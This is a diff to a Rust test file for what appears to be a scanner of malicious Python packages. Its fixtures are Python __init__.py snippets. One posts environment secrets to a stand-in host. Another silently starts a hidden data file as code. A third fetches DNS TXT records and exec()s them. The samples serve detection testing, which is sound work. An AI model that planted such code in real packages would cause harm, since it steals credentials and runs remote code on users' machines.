@@ -1,5 +1,7 @@
 //! What stands together in small packages, where no flow is seen.
 
+#![expect(clippy::unwrap_used, reason = "a test that can't go on has failed")]
+
 mod support;
 
 use support::{Files, convicted, score};
@@ -56,6 +58,27 @@ fn what_is_collected_and_sent() {
             &[(
                 "demo/__init__.py",
                 b"import os, pickle, requests\n\nclass Pool:\n    def __init__(self):\n        try:\n            requests.post('https://a.example/v2', pickle.dumps({k: os.environ[k] for k in os.environ if 'KEY' in k}))\n        except Exception:\n            pass\n",
+            )],
+        ),
+    ];
+    convicted(30, cases);
+}
+
+#[test]
+fn code_that_comes_from_elsewhere() {
+    let cases: &[(&str, Files<'_>)] = &[
+        (
+            "a data file that is started",
+            &[(
+                "demo/__init__.py",
+                b"import subprocess, sys\nfrom pathlib import Path\nsubprocess.Popen([sys.executable, str(Path(__file__).with_name('agent.txt'))], stdout=-3)\n",
+            )],
+        ),
+        (
+            "records of a name server that are run",
+            &[(
+                "demo/__init__.py",
+                b"import base64\n\ndef txt(name):\n    import dns.resolver\n    return b''.join(s for r in dns.resolver.resolve(name, 'TXT') for s in r.strings)\n\ndef hook():\n    try:\n        exec(base64.b64decode(txt('a.mirror.example')))\n    except Exception:\n        pass\n",
             )],
         ),
     ];
